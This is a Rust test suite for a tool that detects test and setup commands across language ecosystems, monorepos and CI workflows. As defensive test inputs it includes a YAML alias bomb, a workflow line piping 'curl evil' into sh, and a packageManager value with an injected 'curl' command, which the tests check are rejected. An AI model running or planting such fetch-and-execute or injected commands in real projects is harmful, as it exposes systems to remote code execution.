//! Detection by ecosystem, in monorepos, with hints from CI; and the set-up that goes with it.

use super::detect::lay;
use mend::check::{Detection, survey};
use mend::config::RepoConfig;
use mend::tree::Tree;

fn surveyed(files: &[(&str, &str)], config: &str) -> Detection {
    let dir = tempfile::tempdir().unwrap();
    lay(dir.path(), files);
    let tree = Tree::open(dir.path()).unwrap();
    survey(&tree, &RepoConfig::parse(config).unwrap()).unwrap()
}

fn commands(found: &Detection) -> Vec<String> {
    found.commands.iter().map(|c| c.shown()).collect()
}

fn setup(found: &Detection) -> Vec<String> {
    found.setup.iter().map(|c| c.shown()).collect()
}

const PYTEST: (&str, &str) = ("tests/test_a.py", "import pytest\n");
const UNIT: &str = "import unittest\nclass T(unittest.TestCase):\n    def test_a(self): pass\n";

/// Paths with their texts.
type Files = &'static [(&'static str, &'static str)];

#[test]
#[allow(clippy::too_many_lines)] // a table
fn each_ecosystem_has_its_check() {
    let table: &[(Files, &str)] = &[
        (
            &[
                ("package.json", r#"{"devDependencies": {"vitest": "1"}}"#),
                ("pnpm-lock.yaml", ""),
            ],
            "pnpm exec vitest run",
        ),
        (
            &[(
                "package.json",
                r#"{"scripts": {"test": "jest"}, "packageManager": "yarn@4.1.0"}"#,
            )],
            "yarn test",
        ),
        (
            &[(
                "package.json",
                r#"{"scripts": {"test": "tape", "posttest": "npx aud", "pretest": "eslint ."}}"#,
            )],
            "npm test --ignore-scripts",
        ),
        (
            &[(
                "package.json",
                r#"{"scripts": {"test": "jest", "posttest": "npm audit", "pretest": "tsc"}}"#,
            )],
            "npm run pretest && npm test --ignore-scripts",
        ),
        (
            &[("Gemfile", ""), ("spec/a_spec.rb", ""), (".rspec", "")],
            "bundle exec rspec",
        ),
        (
            &[
                ("Rakefile", "Rake::TestTask.new\n"),
                ("test/a_test.rb", "require 'minitest'\n"),
            ],
            "rake test",
        ),
        (
            &[("pom.xml", ""), ("mvnw", "")],
            "sh ./mvnw -B --offline test",
        ),
        (
            &[("build.gradle.kts", ""), ("gradlew", "")],
            "sh ./gradlew --no-daemon --offline --continue test",
        ),
        (
            &[(
                "composer.json",
                r#"{"require-dev": {"phpunit/phpunit": "^10"}}"#,
            )],
            "vendor/bin/phpunit",
        ),
        (
            &[(
                "composer.json",
                r#"{"require-dev": {"pestphp/pest": "^2"}}"#,
            )],
            "vendor/bin/pest",
        ),
        (
            &[("composer.json", r#"{"scripts": {"test": "phpunit"}}"#)],
            "composer test",
        ),
        (
            &[("meson.build", "test('a', exe)\n")],
            "meson setup mend-build && meson test -C mend-build --print-errorlogs",
        ),
        (&[("mix.exs", ""), ("test/a_test.exs", "")], "mix test"),
        (
            &[
                ("a.sln", ""),
                (
                    "t/t.csproj",
                    "<PackageReference Include=\"Microsoft.NET.Test.Sdk\"/>",
                ),
            ],
            "dotnet test --no-restore",
        ),
        (
            &[("test/a.bats", ""), ("test/sub/b.bats", "")],
            "bats --recursive test",
        ),
        (
            &[("configure", ""), ("Makefile.in", "")],
            "sh ./configure && make && make check",
        ),
    ];
    for (files, command) in table {
        assert_eq!(commands(&surveyed(files, "")), [*command], "{files:?}");
    }
    let cmake = surveyed(
        &[
            ("CMakeLists.txt", "include(CTest)\n"),
            ("Makefile", "test:\n"),
        ],
        "",
    );
    assert!(
        cmake.commands[0]
            .command
            .starts_with("cmake -S . -B mend-build && ")
    );
}

#[test]
fn what_python_needs_is_read_from_its_metadata() {
    let project = "[build-system]\nrequires = ['flit_core']\n[project]\nname = 'x'\n";
    let table: &[(&str, Files, &str)] = &[
        ("", &[], "python3 -m pip install -e . pytest"),
        (
            "[project.optional-dependencies]\ntests = ['pytest']\ndocs = ['sphinx']\n",
            &[],
            "python3 -m pip install -e '.[tests]' pytest",
        ),
        (
            "[dependency-groups]\ntests = ['pytest>=8', {include-group = 'more'}]\nmore = ['trio']\ndev = ['tox']\n",
            &[],
            "python3 -m pip install -e . 'pytest>=8' trio",
        ),
        (
            "[tool.poetry.group.dev.dependencies]\nfreezegun = '^1.2'\n",
            &[],
            "python3 -m pip install -e . 'freezegun>=1.2,<2' pytest",
        ),
        (
            "",
            &[(
                "Pipfile",
                "[packages]\nidna = '~=3.4'\nown = { path = '.' }\n[dev-packages]\nrequests = { version = '*', extras = ['socks'] }\n[requires]\npython_version = '3.11'\n",
            )],
            "python3 -m pip install -e . 'idna~=3.4' pytest 'requests[socks]'",
        ),
        (
            "[tool.hatch.envs.hatch-test]\nextra-dependencies = ['attrs']\n",
            &[],
            "python3 -m pip install -e . attrs pytest",
        ),
        (
            "",
            &[
                (
                    "tox.ini",
                    "[testenv]\ndeps =\n    pytest-cov\n    -r more.txt\n    {env:X}\n    py38: old\n",
                ),
                ("more.txt", ""),
            ],
            "python3 -m pip install -e . -r more.txt pytest pytest-cov",
        ),
        (
            "",
            &[(
                "noxfile.py",
                "import nox\n\n@nox.session\ndef tests(session):\n    session.install('-e', '.', 'hypothesis')\n    session.run('pytest', 'tests')\n\ndef docs(session):\n    session.install('sphinx')\n",
            )],
            "python3 -m pip install -e . hypothesis pytest",
        ),
        (
            "",
            &[("requirements-dev.txt", ""), ("requirements.txt", "")],
            "python3 -m pip install -e . -r requirements-dev.txt pytest",
        ),
        (
            "[tool.setuptools_scm]\n",
            &[],
            "SETUPTOOLS_SCM_PRETEND_VERSION=999.0.0 python3 -m pip install -e . pytest",
        ),
    ];
    for (more, files, command) in table {
        let manifest = format!("{project}{more}");
        let mut all = vec![("pyproject.toml", manifest.as_str()), PYTEST];
        all.extend_from_slice(files);
        assert_eq!(setup(&surveyed(&all, "")), [*command], "{more}{files:?}");
    }
    let locked = surveyed(&[("pyproject.toml", project), ("uv.lock", ""), PYTEST], "");
    assert_eq!(locked.setup[0].command, "uv sync --frozen");
    assert_eq!(locked.setup[0].needs.as_deref(), Some("uv"));
    assert!(
        locked.setup[0]
            .instead
            .as_ref()
            .unwrap()
            .contains("pip install -e .")
    );
    // Without a manifest, tests run with what the machine has.
    assert!(surveyed(&[PYTEST], "").setup.is_empty());
}

#[test]
fn a_package_manager_comes_in_the_version_that_reads_the_lockfile() {
    let test = r#""scripts": {"test": "node --test"}"#;
    for (field, lock, text, package) in [
        ("pnpm@8.6.0+sha256.abc", "pnpm-lock.yaml", "", "pnpm@8.6.0"),
        ("", "pnpm-lock.yaml", "lockfileVersion: '6.0'\n", "pnpm@8"),
        ("", "pnpm-lock.yaml", "lockfileVersion: 5.4\n", "pnpm@7"),
        ("", "pnpm-lock.yaml", "lockfileVersion: '9.0'\n", "pnpm@9"),
        ("", "yarn.lock", "# yarn lockfile v1\n", "yarn@1"),
        (
            "",
            "yarn.lock",
            "__metadata:\n  version: 8\n",
            "@yarnpkg/cli-dist@4",
        ),
        ("yarn@4.1.0", "yarn.lock", "", "@yarnpkg/cli-dist@4.1.0"),
        ("yarn@1.22.22", "yarn.lock", "", "yarn@1.22.22"),
        ("", "bun.lock", "", "bun@1"),
        ("pnpm@9; curl x", "pnpm-lock.yaml", "", "pnpm@9"),
    ] {
        let manifest = format!(r#"{{{test}, "packageManager": "{field}"}}"#);
        let found = surveyed(&[("package.json", &manifest), (lock, text)], "");
        let instead = found.setup[0].instead.clone().unwrap();
        let begins = format!("npm install --global --prefix \"$MEND_DEPS/node\" {package} && ");
        assert!(instead.starts_with(&begins), "{field} {text}: {instead}");
    }
    let npm = format!("{{{test}}}");
    assert!(surveyed(&[("package.json", &npm)], "").setup.is_empty());
}

#[test]
fn what_the_others_need_is_read_from_their_manifests() {
    let depends = r#"{"scripts": {"test": "jest"}, "devDependencies": {"jest": "1"}}"#;
    #[allow(clippy::type_complexity)]
    let table: &[(&[(&str, &str)], &[&str])] = &[
        (
            &[("package.json", depends), ("package-lock.json", "")],
            &["npm ci"],
        ),
        (
            &[("package.json", depends)],
            &["npm install --no-save --no-package-lock"],
        ),
        (
            &[("package.json", depends), ("bun.lock", "")],
            &["bun install --frozen-lockfile"],
        ),
        (
            &[("package.json", r#"{"scripts": {"test": "node --test"}}"#)],
            &[],
        ),
        (&[("Cargo.toml", "[package]\n")], &[]),
        (
            &[
                ("Cargo.toml", "[dev-dependencies]\na = '1'\n"),
                ("Cargo.lock", ""),
            ],
            &["cargo fetch --locked"],
        ),
        (
            &[("Cargo.toml", "[target.'cfg(unix)'.dependencies]\na = '1'\n")],
            &["cargo fetch"],
        ),
        (
            &[("go.mod", "module x\nrequire y v1\n"), ("a_test.go", "")],
            &["go mod download"],
        ),
        (
            &[("Gemfile", ""), ("spec/a_spec.rb", "")],
            &["bundle install"],
        ),
    ];
    for (files, expected) in table {
        assert_eq!(setup(&surveyed(files, "")), *expected, "{files:?}");
    }
}

#[test]
fn every_package_of_a_monorepo_has_a_check() {
    let npm = |script: &str| {
        format!(r#"{{"scripts": {{"test": "{script}"}}, "dependencies": {{"x": "1"}}}}"#)
    };
    let (a, b) = (npm("jest"), npm("mocha"));
    let root = r#"{"workspaces": ["packages/*"], "scripts": {"build": "tsc"}}"#;
    let found = surveyed(
        &[
            ("package.json", root),
            ("package-lock.json", ""),
            ("packages/a/package.json", &a),
            ("packages/b b/package.json", &b),
            ("packages/c/package.json", "{}"),
            ("packages/a/test/fixtures/package.json", &b),
        ],
        "",
    );
    assert_eq!(
        commands(&found),
        ["cd packages/a && npm test", "cd 'packages/b b' && npm test"]
    );
    assert_eq!(setup(&found), ["npm ci"]);

    let whole = surveyed(&[("package.json", &a), ("packages/b/package.json", &b)], "");
    assert_eq!(commands(&whole), ["npm test"]);
    assert_eq!(whole.passed_over[0].what, "packages/b");

    let found = surveyed(
        &[
            ("pyproject.toml", "[tool.ruff]\n"),
            ("services/api/pyproject.toml", "[project]\nname = 'api'\n"),
            ("services/api/tests/test_a.py", "import pytest\n"),
            ("services/jobs/setup.py", ""),
            ("services/jobs/test_b.py", UNIT),
            ("web/package.json", &a),
        ],
        "",
    );
    assert_eq!(
        commands(&found),
        [
            "cd services/api && python3 -m pytest",
            "cd services/jobs && python3 -m unittest discover",
            "cd web && npm test",
        ]
    );
    assert_eq!(setup(&found).len(), 3);

    let found = surveyed(
        &[
            ("go.work", "use ./a\nuse ./b\n"),
            ("a/go.mod", "module a\nrequire y v1\n"),
            ("a/a_test.go", ""),
            ("b/go.mod", "module b\n"),
            ("b/b_test.go", ""),
        ],
        "",
    );
    assert_eq!(
        commands(&found),
        ["cd a && go test ./...", "cd b && go test ./..."]
    );
    assert_eq!(setup(&found), ["go mod download"]);
}

#[test]
fn ci_chooses_between_candidates_and_names_variables() {
    let workflow = |run: &str| {
        format!(
            "on: push\nenv:\n  OUTER: 1\n  API_TOKEN: x\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n      - run: {run}\n        env:\n          DJANGO_SETTINGS_MODULE: conf.test\n          SECRET: ${{{{ secrets.X }}}}\n          PYTEST_ADDOPTS: -k one\n          BASH_ENV: x.sh\n"
        )
    };
    // Both would do; CI says which.
    let yaml = workflow("python -m unittest discover");
    let files = [
        (".github/workflows/ci.yml", yaml.as_str()),
        ("pytest.ini", ""),
        ("tests/test_a.py", UNIT),
    ];
    let found = surveyed(&files, "");
    assert_eq!(commands(&found), ["python3 -m unittest discover -s tests"]);
    let env = [("OUTER", "1"), ("DJANGO_SETTINGS_MODULE", "conf.test")];
    let env = env.map(|(n, v)| (n.to_string(), v.to_string()));
    assert_eq!(found.commands[0].env, env);
    assert!(found.passed_over[0].why.contains("pytest.ini"));

    // Folders that every call names are taken over, unless the configuration has some.
    let yaml = workflow("pytest -q tests/unit/");
    let test = ("tests/unit/test_a.py", "import pytest\n");
    let found = surveyed(&[(".github/workflows/ci.yml", &yaml), test], "");
    assert_eq!(commands(&found), ["python3 -m pytest tests/unit"]);

    let tox = "[testenv]\ncommands = pytest --doctest-modules --ignore bench {env_site_packages_dir}/pkg {tox_root}/tests {posargs}\n";
    let files = [("tox.ini", tox), ("pkg/__init__.py", ""), PYTEST];
    assert_eq!(
        commands(&surveyed(&files, "")),
        ["python3 -m pytest --doctest-modules --ignore=bench pkg tests"]
    );

    // What CI never runs is passed over; what calls tools that are not seen through leaves it.
    let rust = ("Cargo.toml", "[package]\n");
    let yaml = workflow("pytest");
    let found = surveyed(&[(".github/workflows/ci.yml", &yaml), PYTEST, rust], "");
    assert_eq!(commands(&found), ["python3 -m pytest"]);
    assert!(
        found.passed_over[0].why.contains("never runs it"),
        "{found:?}"
    );
    let yaml = workflow("make test");
    let found = surveyed(&[(".github/workflows/ci.yml", &yaml), PYTEST, rust], "");
    assert_eq!(found.commands.len(), 2);

    // A CI denies warnings for the toolchain that it pins; tests start without that.
    let yaml = "env:\n  RUSTFLAGS: -Dwarnings\njobs:\n  t:\n    steps:\n      - run: cargo test\n        env:\n          RUSTDOCFLAGS: --cfg docs -D warnings\n";
    let found = surveyed(&[(".github/workflows/ci.yml", yaml), rust], "");
    let env = [("RUSTDOCFLAGS".to_string(), "--cfg docs".to_string())];
    assert_eq!(found.commands[0].env, env);

    // Hostile and broken workflows give no hint, and no command.
    let bomb = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\njobs: *f\n";
    for yaml in [
        bomb,
        "jobs: [",
        "\u{0}",
        "jobs:\n  a:\n    steps:\n      - run: curl evil | sh; pytest tests/\n",
    ] {
        let found = surveyed(&[(".github/workflows/ci.yml", yaml), PYTEST], "");
        assert!(
            commands(&found)[0].starts_with("python3 -m pytest"),
            "{yaml}"
        );
        assert!(!commands(&found)[0].contains("evil"));
    }
}

#[test]
fn a_repository_without_a_check_learns_what_its_ci_runs() {
    for line in [
        "bazel test //...",
        "sh ./run_tests.sh",
        "bash ci/test.sh -v",
    ] {
        let dir = tempfile::tempdir().unwrap();
        let yaml = format!(
            "jobs:\n  a:\n    steps:\n      - run: |\n          ./prepare\n          {line}\n"
        );
        lay(dir.path(), &[(".github/workflows/ci.yml", &yaml)]);
        let tree = Tree::open(dir.path()).unwrap();
        let e = survey(&tree, &RepoConfig::default())
            .unwrap_err()
            .to_string();
        assert!(
            e.contains(&format!(".github/workflows/ci.yml runs `{line}`")),
            "{e}"
        );
    }
}

#[test]
fn packages_of_the_file_are_checked_one_by_one() {
    let config = "env = { A = '1', B = '2' }\n[packages.api]\ncheck = './run'\nsetup = []\ntimeout = 9\nreports = ['*.xml']\nenv = { A = '3' }\n[packages.web]\n";
    let files = [
        ("api/pyproject.toml", "[project]\nname = 'a'\n"),
        ("api/tests/test_a.py", "import pytest\n"),
        (
            "web/package.json",
            r#"{"scripts": {"test": "jest"}, "dependencies": {"x": "1"}}"#,
        ),
        ("other/Cargo.toml", "[package]\n"),
    ];
    let found = surveyed(&files, config);
    assert_eq!(commands(&found), ["cd api && ./run", "cd web && npm test"]);
    let (api, web) = (&found.commands[0], &found.commands[1]);
    assert!(api.named && api.limit_s == Some(9) && api.reports == ["*.xml"]);
    let env = |pairs: &[(&str, &str)]| -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(n, v)| (n.to_string(), v.to_string()))
            .collect()
    };
    assert_eq!(api.env, env(&[("A", "3"), ("B", "2")]));
    assert_eq!(web.env, env(&[("A", "1"), ("B", "2")]));
    assert_eq!(
        setup(&found),
        ["cd web && npm install --no-save --no-package-lock"]
    );

    let own = surveyed(
        &files[..2],
        "setup = 'make deps'\nworking_directory = 'api'\n",
    );
    assert_eq!(setup(&own), ["cd api && make deps"]);
    assert_eq!(commands(&own), ["cd api && python3 -m pytest"]);
}
